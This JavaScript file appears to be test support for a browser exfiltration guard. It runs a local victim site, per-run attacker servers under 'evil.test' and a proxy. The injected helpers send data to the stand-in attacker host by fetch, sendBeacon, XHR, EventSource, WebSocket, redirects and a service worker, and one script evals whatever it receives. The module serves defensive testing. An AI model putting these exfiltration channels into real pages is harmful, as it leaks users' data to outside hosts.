// The attacked site, and the attacker who waits for what it sends.
//
// A script's document runs by itself, with no driver in it: a driver's scripts run as if the user had just acted.
import { createServer } from "node:http";
import { packageScript } from "../../support/package-scripts.mjs";
import { listen, listenToDatagrams } from "../../support/servers.mjs";

const HTML = "text/html; charset=utf-8";
const SCRIPT = "text/javascript; charset=utf-8";
const POLICY = { connect: ["'self'"], links: { origins: [] } };

/** What the site has beside the documents: nothing here carries a policy of its own. */
const FILES = {
  "/plain": [HTML, "<!doctype html><title>plain</title><p id=p>plain"],
  "/sends.js": [
    SCRIPT,
    `const to = new URL(location).searchParams.get("to"); fetch(to, { mode: "no-cors" }).catch(() => {});`,
  ],
  "/evaluates.js": [SCRIPT, `onmessage = ({ data }) => eval(data);`],
  "/frame.xml": ["text/xml", `<iframe xmlns="http://www.w3.org/1999/xhtml"/>`],
  "/idle.js": [SCRIPT, `onmessage = ({ data }) => postMessage(data);`],
};

/** A name of the attacker's, of one run; a browser that asks it, asks `Site`'s proxy. */
const rpOf = (id) => `run${id}.evil.test`;

/** The attacker's page that opens the page or has it in a frame, sends it a port now and then, and passes on what it hears. */
const outer = (by, url) => `<!doctype html><link rel="icon" href="data:,"><title>outer</title><body><script>
  const told = (what) => void fetch("/told?" + encodeURIComponent(JSON.stringify(what)), { mode: "no-cors" });
  onmessage = ({ data, source }) => {
    if (data === "port") give(source);
    else told(data);
  };
  const give = (to) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => told(data);
    to.postMessage({ port: port2 }, "*", [port2]);
  };
  let inner;
  if (${JSON.stringify(by)} === "open") inner = open(${JSON.stringify(url)});
  else {
    const frame = document.createElement("iframe");
    frame.src = ${JSON.stringify(url)};
    document.body.append(frame);
    inner = frame.contentWindow;
  }
  setInterval(() => give(inner), 300);
</script></body>`;

/** What a script gets beside `evil` and `own`; it is written into the document. */
function help(evil, own, rp) {
  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const { body } = document;
  return {
    evil,
    own,
    rp,
    socket: evil.replace("http", "ws"),
    port: new URL(evil).port,
    /** What a worker or a frame of its own would run. */
    sends: `fetch("${evil}", { mode: "no-cors" }).catch(() => {})`,
    sleep,
    /** An address of the site that redirects to the attacker. */
    via: (path = "/x", status = 307) => `${own}/to?status=${status}&url=${encodeURIComponent(evil + path)}`,
    blob: (text, type = "text/html") => URL.createObjectURL(new Blob([text], { type })),
    add: (name, properties = {}, parent = body) =>
      parent.appendChild(Object.assign(document.createElement(name), properties)),
    script: (text) => `<script>${text}</script>`,
    /** Whatever there is to call, plainly: nothing here depends on a built-in that a script may have replaced. */
    send(url = evil) {
      try {
        fetch(`${url}/fetch`, { mode: "no-cors" }).catch(() => {});
      } catch {}
      try {
        navigator.sendBeacon(`${url}/beacon`, "x");
      } catch {}
      try {
        const x = new XMLHttpRequest();
        x.open("GET", `${url}/xhr`);
        x.send();
      } catch {}
      try {
        new EventSource(`${url}/events`);
      } catch {}
      try {
        new WebSocket(`${url}/socket`);
      } catch {}
    },
  };
}

/** A function's text, which must not end the script element that it stands in. */
const inScript = (text) => `${text}`.replaceAll("</script", "<\\/script");

const page = ({ source, strength, id, evil, own }) => `<!doctype html><html><head><meta charset="utf-8">
<title>page</title><link rel="icon" href="data:,"></head><body>
<script>window.attack = ${inScript(source)};</script>
<script type="module">
  import { installGuard } from "/guard.js";
  const { attack, fetch } = window;
  const init = { __proto__: null, mode: "no-cors", keepalive: true };
  const say = (what) => void fetch("${own}/said/${id}/" + what, init);
  const tools = (${inScript(help)})("${evil}", "${own}", "${rpOf(id)}");
  const { encodeURIComponent } = window;
  ${strength === "off" ? "" : `installGuard(${JSON.stringify(POLICY)}, { strength: "${strength}" });`}
  say("ran");
  try {
    await attack(tools);
    say("done");
  } catch (error) {
    say("threw-" + encodeURIComponent(error));
  }
</script></body></html>`;

/** One running of one script: its document, its attacker, and what came of it. */
class Run {
  requests = [];
  connections = 0;
  datagrams = 0;
  said = [];
  /** When its document was opened, when it said that the script ran and was through; when and how often it was clicked. */
  opened = Number.POSITIVE_INFINITY;
  ran;
  over;
  clicked;
  clicks = 0;
  #servers = [];

  constructor(script, strength, id) {
    Object.assign(this, { script, strength, id });
  }

  async listen() {
    const make = () => {
      const server = createServer((request, response) => this.#answer(request, response));
      server.on("connection", () => this.connections++);
      server.on("upgrade", (request, socket) => {
        this.requests.push(`${request.method} ${request.url}`);
        socket.destroy();
      });
      server.on("clientError", (_error, socket) => socket.destroy());
      return server;
    };
    const { origin, stop } = await (this.script.hit === "datagram"
      ? listenToDatagrams(make, () => this.datagrams++)
      : listen(make()));
    this.evil = origin;
    this.#servers.push(stop);
  }

  stop() {
    for (const stop of this.#servers) stop();
  }

  /** What arrived: a request, or only a connection or a datagram; undefined for nothing. */
  get reached() {
    if (this.requests.length > 0) return "request";
    if (this.datagrams > 0) return "datagram";
    // A page of the attacker's is there from the start.
    if (this.script.by) return undefined;
    return this.connections > 0 ? "connection" : undefined;
  }

  hear(word) {
    this.said.push(word);
    if (word === "ran") this.ran ??= Date.now();
    else this.over ??= Date.now();
  }

  #answer({ method, url }, response) {
    if (url === "/outer")
      return void response.writeHead(200, { "Content-Type": HTML }).end(outer(this.script.by, this.url));
    this.requests.push(`${method} ${url}`);
    const any = { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" };
    const headers = { ...any, "Cache-Control": "no-store" };
    const { pathname } = new URL(url, "http://evil");
    const type = pathname.endsWith(".js") ? SCRIPT : pathname.endsWith(".css") ? "text/css" : HTML;
    response.writeHead(200, { ...headers, "Content-Type": type }).end(type === HTML ? "<p>his" : "");
  }
}

export class Site {
  #server;
  #proxy;
  #runs = [];

  /** For names below `evil.test`, which have no port to tell one run's from another's by. */
  get proxyScript() {
    const { port } = new URL(this.#proxy.origin);
    return `function FindProxyForURL(url, host) {
      return /\\.evil\\.test$/.test(host) ? "PROXY 127.0.0.1:${port}" : "DIRECT";
    }`;
  }

  static async start() {
    const site = new Site();
    site.#server = await listen(createServer((request, response) => site.#answer(request, response)));
    site.origin = site.#server.origin;
    site.#proxy = await listen(
      createServer().on("connect", ({ url }, socket) => {
        const [, id] = /^run(\d+)\./i.exec(url) ?? [];
        site.#runs[id]?.requests.push(`CONNECT ${url}`);
        socket.destroy();
      }),
    );
    return site;
  }

  async run(script, strength) {
    const run = new Run(script, strength, this.#runs.length);
    this.#runs.push(run);
    await run.listen();
    run.own = script.host ? this.origin.replace("127.0.0.1", script.host) : this.origin;
    run.url = `${run.own}/run/${run.id}/`;
    run.start = script.by ? `${run.evil}/outer` : run.url;
    return run;
  }

  stop() {
    for (const run of this.#runs) run.stop();
    this.#server.stop();
    this.#proxy.stop();
  }

  #answer(request, response) {
    const { pathname, searchParams } = new URL(request.url, "http://site");
    const send = (type, body, headers) =>
      response.writeHead(200, { "Content-Type": type, "Cache-Control": "no-store", ...headers }).end(body);
    const [, place, id, rest] = pathname.split("/");
    const packaged = packageScript(pathname);
    if (packaged !== undefined) {
      send(SCRIPT, packaged, { "Cache-Control": "max-age=600" });
    } else if (pathname === "/to") {
      const headers = { Location: searchParams.get("url"), "Access-Control-Allow-Origin": "*" };
      response.writeHead(Number(searchParams.get("status")), { ...headers, "Cache-Control": "no-store" }).end();
    } else if (pathname === "/slow.css") {
      setTimeout(() => send("text/css", ""), 500);
    } else if (pathname === "/slow") {
      setTimeout(() => send(HTML, "<!doctype html><title>slow</title>"), 2_000);
    } else if (place === "said") {
      this.#runs[id].hear(decodeURIComponent(rest));
      response.writeHead(204).end();
    } else if (place === "run" && rest === "") {
      const { script, strength, evil, own } = this.#runs[id];
      send(HTML, page({ source: script.source, strength, id, evil, own }));
    } else if (place === "run" && rest === "sw.js") {
      send(SCRIPT, `fetch("${this.#runs[id].evil}/worker", { mode: "no-cors" });`);
    } else {
      const [type, body] = FILES[pathname] ?? ["text/plain", request.method];
      send(type, body);
    }
  }
}
